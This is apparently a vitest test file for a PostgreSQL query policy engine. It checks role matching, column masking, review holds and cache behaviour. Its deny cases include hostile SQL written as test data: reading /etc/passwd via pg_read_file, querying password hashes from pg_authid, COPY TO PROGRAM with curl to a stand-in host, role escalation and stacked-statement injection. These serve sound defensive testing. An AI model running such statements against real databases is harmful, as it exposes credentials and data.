// The shipped example policies, decided with the real SQL analysis (PostgreSQL's parser), and the
// cache keyed by PostgreSQL's own normaliser.
import { beforeAll, describe, expect, it } from 'vitest';
import { loadPolicy, parsePolicy } from '../../src/policy/load.js';
import { matchRoles } from '../../src/policy/roles.js';
import { createEngine } from '../../src/policy/sql-analyzer.js';
import type { PolicyEngine } from '../../src/policy/engine.js';

const PSQL_DT = `SELECT n.nspname as "Schema", c.relname as "Name", CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' END as "Type", pg_catalog.pg_get_userbyid(c.relowner) as "Owner" FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('r','p','') AND n.nspname <> 'pg_catalog' AND n.nspname !~ '^pg_toast' AND n.nspname <> 'information_schema' AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2;`;

describe('policies/demo.yml', () => {
  let e: PolicyEngine;
  beforeAll(async () => {
    e = await createEngine(loadPolicy('policies/demo.yml'), 'demo');
  });

  it('allows reads of the sample tables and masks email (partial) and ssn (redact)', () => {
    expect(e.decide('SELECT id, name, email, ssn FROM users')).toMatchObject({
      decision: 'allow',
      statements: [
        {
          rule: 'roles.demo.postgres.rules[0]',
          masked: [
            { index: 2, name: 'email', strategy: 'partial', column: 'public.users.email' },
            { index: 3, name: 'ssn', strategy: 'redact', column: '*.ssn' },
          ],
        },
      ],
    });
  });

  it('masks through expressions and aliases', () => {
    expect(e.decide('SELECT lower(email) AS e FROM users').statements[0]!.masked).toEqual([
      { index: 0, name: 'e', strategy: 'partial', column: 'public.users.email' },
    ]);
    expect(e.decide("SELECT 'x' || ssn AS s FROM users WHERE id = 1").statements[0]!.masked).toEqual([
      { index: 0, name: 's', strategy: 'redact', column: '*.ssn' },
    ]);
    expect(e.decide('SELECT row_to_json(u) FROM users u').statements[0]!.masked).toEqual([
      { index: 0, name: 'row_to_json', strategy: 'redact', column: '*.ssn' },
    ]);
    expect(e.decide('SELECT o.amount FROM orders o').statements[0]!.masked).toEqual([]);
  });

  it('holds writes to orders for review, denies writes to users', () => {
    expect(e.decide("INSERT INTO orders VALUES (103, 1, 5.00, 'new')")).toMatchObject({
      decision: 'review',
      statements: [{ rule: 'roles.demo.postgres.rules[3]', reason: 'insert on public.orders needs review by roles.demo.postgres.rules[3]' }],
    });
    expect(e.decide("UPDATE users SET email = 'x'")).toMatchObject({ decision: 'deny', statements: [{ rule: 'roles.demo.postgres.rules[4]' }] });
    expect(e.decide('DROP TABLE users').decision).toBe('deny');
  });

  it('lets psql work: \\dt, SELECT 1, BEGIN, SET application_name', () => {
    expect(e.decide(PSQL_DT).decision).toBe('allow');
    expect(e.decide('SELECT 1').decision).toBe('allow');
    expect(e.decide('BEGIN').decision).toBe('allow');
    expect(e.decide("SET application_name = 'psql'").decision).toBe('allow');
  });

  it('never reads password hashes', () => {
    expect(e.decide('SELECT rolname, rolpassword FROM pg_authid')).toMatchObject({
      decision: 'deny',
      statements: [{ rule: 'roles.demo.postgres.rules[1]' }],
    });
  });

  it('decides a message all or nothing', () => {
    const d = e.decide('SELECT * FROM orders; DELETE FROM users');
    expect(d.decision).toBe('deny');
    expect(d.statements.map((s) => [s.sql, s.decision])).toEqual([
      ['SELECT * FROM orders', 'allow'],
      ['DELETE FROM users', 'deny'],
    ]);
    expect(e.decide("BEGIN; UPDATE orders SET status = 'paid' WHERE id = 101; COMMIT").decision).toBe('review');
  });

  it('denies dangerous built-ins and what it cannot parse', () => {
    expect(e.decide("SELECT pg_read_file('/etc/passwd')")).toMatchObject({ decision: 'deny', statements: [{ rule: null }] });
    expect(e.decide("SELECT set_config('role', 'postgres', false)").decision).toBe('deny');
    expect(e.decide('SELEC 1').statements[0]).toMatchObject({ decision: 'deny', rule: null, reason: expect.stringContaining('syntax error') });
  });
});

describe('policies/readonly.yml', () => {
  let e: PolicyEngine;
  const policy = loadPolicy('policies/readonly.yml');
  beforeAll(async () => {
    e = await createEngine(policy, 'readonly');
  });

  it('matches CI of acme on main and on pull requests only', () => {
    const acme = { repository_owner_id: '1234567', repository: 'acme/app' };
    expect(matchRoles(policy, { ...acme, event_name: 'push', ref: 'refs/heads/main' })).toEqual(['readonly']);
    expect(matchRoles(policy, { ...acme, event_name: 'pull_request', ref: 'refs/pull/12/merge' })).toEqual(['readonly']);
    expect(matchRoles(policy, { ...acme, event_name: 'push', ref: 'refs/heads/feature' })).toEqual([]);
    expect(matchRoles(policy, { ...acme, repository: 'evil/app', event_name: 'push', ref: 'refs/heads/main' })).toEqual([]);
    // Same names, another owner: acme renamed, and someone else registered the name.
    expect(matchRoles(policy, { ...acme, repository_owner_id: '99999999', event_name: 'push', ref: 'refs/heads/main' })).toEqual([]);
    // Other events on main: issue_comment is not named; pull_request_target never by default.
    expect(matchRoles(policy, { ...acme, event_name: 'issue_comment', ref: 'refs/heads/main' })).toEqual([]);
    expect(matchRoles(policy, { ...acme, event_name: 'pull_request_target', ref: 'refs/heads/main' })).toEqual([]);
  });

  it.each([
    'SELECT * FROM users',
    'SELECT count(*) FROM public.orders o JOIN public.users u ON u.id = o.user_id',
    'EXPLAIN SELECT * FROM users',
    'SHOW search_path',
    'SELECT now()',
    'BEGIN',
    'COMMIT',
    "SET statement_timeout = '5s'",
  ])('allows %s', (sql) => {
    expect(e.decide(sql).decision).toBe('allow');
  });

  it.each([
    "INSERT INTO users VALUES (9, 'x', 'y', 'z')",
    "UPDATE users SET name = 'x'",
    'DELETE FROM users',
    'TRUNCATE users',
    'MERGE INTO users u USING orders o ON u.id = o.user_id WHEN MATCHED THEN DELETE',
    'COPY users FROM STDIN',
    'CREATE TABLE t (id int)',
    'DROP TABLE users',
    'GRANT SELECT ON users TO public',
    'SELECT * INTO copy_of_users FROM users',
    'EXPLAIN ANALYZE DELETE FROM users',
    'WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d',
    "SELECT nextval('users_id_seq')",
    'SELECT * FROM private.secrets',
    'SET ROLE postgres',
    'SET search_path = private, public',
    'DO $$ BEGIN DELETE FROM users; END $$',
    "COPY (SELECT * FROM users) TO PROGRAM 'curl evil'",
    'SELECT 1; DELETE FROM users',
  ])('denies %s', (sql) => {
    expect(e.decide(sql).decision).toBe('deny');
  });
});

describe('policies/migrations.yml', () => {
  let e: PolicyEngine;
  const policy = loadPolicy('policies/migrations.yml');
  beforeAll(async () => {
    e = await createEngine(policy, 'migrations');
  });

  it('matches only the migration workflow on main', () => {
    const claims = { repository_owner_id: '1234567', repository: 'acme/app', event_name: 'push', ref: 'refs/heads/main', job_workflow_ref: 'acme/platform/.github/workflows/migrate.yml@refs/tags/v1' };
    expect(matchRoles(policy, claims)).toEqual(['migrations']);
    expect(matchRoles(policy, { ...claims, job_workflow_ref: 'acme/app/.github/workflows/migrate.yml@refs/tags/v1' })).toEqual([]);
    // The reusable workflow at a branch is not the pinned release.
    expect(matchRoles(policy, { ...claims, job_workflow_ref: 'acme/platform/.github/workflows/migrate.yml@refs/heads/main' })).toEqual([]);
    expect(matchRoles(policy, { ...claims, repository_owner_id: '7' })).toEqual([]);
    expect(policy.roles.get('migrations')!.approvers).toEqual(['acme/dba']);
  });

  it.each([
    'CREATE TABLE accounts (id bigint primary key, name text)',
    'ALTER TABLE users ADD COLUMN phone text',
    'CREATE INDEX users_email ON users (email)',
    "COMMENT ON TABLE users IS 'people'",
    "INSERT INTO schema_migrations (version) VALUES ('20260101')",
    "UPDATE users SET name = trim(name)",
    'SELECT version FROM schema_migrations ORDER BY version',
    "SELECT 1 FROM information_schema.tables WHERE table_name = 'users'",
    'SELECT pg_advisory_lock(42)',
    'LOCK TABLE users IN ACCESS EXCLUSIVE MODE',
  ])('allows %s', (sql) => {
    expect(e.decide(sql).decision).toBe('allow');
  });

  it.each(['DROP TABLE users', 'TRUNCATE orders', 'ALTER TABLE users RENAME TO people; DROP TABLE old_users'])('holds %s for review', (sql) => {
    expect(e.decide(sql)).toMatchObject({ decision: 'review' });
  });

  it.each([
    'GRANT ALL ON users TO public',
    'REVOKE SELECT ON users FROM app',
    'CREATE SCHEMA billing',
    'CREATE TABLE billing.invoices (id int)',
    'DROP TABLE billing.invoices',
    'ALTER SYSTEM SET fsync = off',
    'CREATE ROLE admin SUPERUSER',
    "COPY users TO '/tmp/users.csv'",
    'DROP TABLE old_users; GRANT ALL ON users TO public',
  ])('denies %s', (sql) => {
    expect(e.decide(sql).decision).toBe('deny');
  });
});

describe('the cache with PostgreSQL’s normaliser', () => {
  const policy = parsePolicy(
    `version: 1
roles:
  r:
    match: { sub: x }
    postgres:
      rules:
        - { action: allow, kinds: [select], objects: ["public.*"] }
        - { action: allow, kinds: [execute], objects: [a] }
        - { action: deny,  kinds: [any] }
`,
    'c.yml',
  );

  it('EXECUTE a and EXECUTE b are different statements', async () => {
    const e = await createEngine(policy, 'r');
    expect(e.decide('EXECUTE a').decision).toBe('allow');
    expect(e.decide('EXECUTE b').decision).toBe('deny');
    expect(e.decide('EXECUTE a(1)').decision).toBe('allow');
    expect(e.decide('EXECUTE b(2)').decision).toBe('deny');
  });

  it('a literal that changes the decision never hits the other literal’s entry', async () => {
    const e = await createEngine(policy, 'r');
    expect(e.decide("SELECT set_config('application_name', 'x', false)").decision).toBe('deny'); // set_config is exact
    const lenient = parsePolicy(
      'version: 1\nroles:\n  r:\n    match: { sub: x }\n    postgres:\n      rules:\n        - { action: allow, kinds: [call], objects: [pg_catalog.set_config] }\n        - { action: allow, kinds: [select] }\n',
      'l.yml',
    );
    const l = await createEngine(lenient, 'r');
    expect(l.decide("SELECT set_config('application_name', 'x', false)").decision).toBe('allow');
    expect(l.decide("SELECT set_config('role', 'postgres', false)").decision).toBe('deny');
    expect(l.decide("SELECT set_config('application_name', 'y', false)").decision).toBe('allow');
    expect(l.cacheStats().shapeHits).toBe(0);
  });

  it('the same shape with another literal is a shape hit with its own text', async () => {
    const e = await createEngine(policy, 'r');
    e.decide('SELECT * FROM users WHERE id = 1');
    expect(e.decide('SELECT * FROM users WHERE id = 2').statements[0]!.sql).toBe('SELECT * FROM users WHERE id = 2');
    expect(e.cacheStats()).toMatchObject({ shapeHits: 1, misses: 1 });
    // psql sends the semicolon; the statement's own text is without it.
    e.decide('SELECT * FROM users WHERE id = 3;');
    expect(e.decide('SELECT * FROM users WHERE id = 4;').statements[0]!.sql).toBe('SELECT * FROM users WHERE id = 4');
    expect(e.cacheStats()).toMatchObject({ shapeHits: 2, misses: 2 });
    // The parser splits `'a\\' ; DELETE …` as PostgreSQL does: a SELECT and a DELETE.
    expect(e.decide("SELECT 'a\\' ; DELETE FROM users; --'").decision).toBe('deny');
  });
});
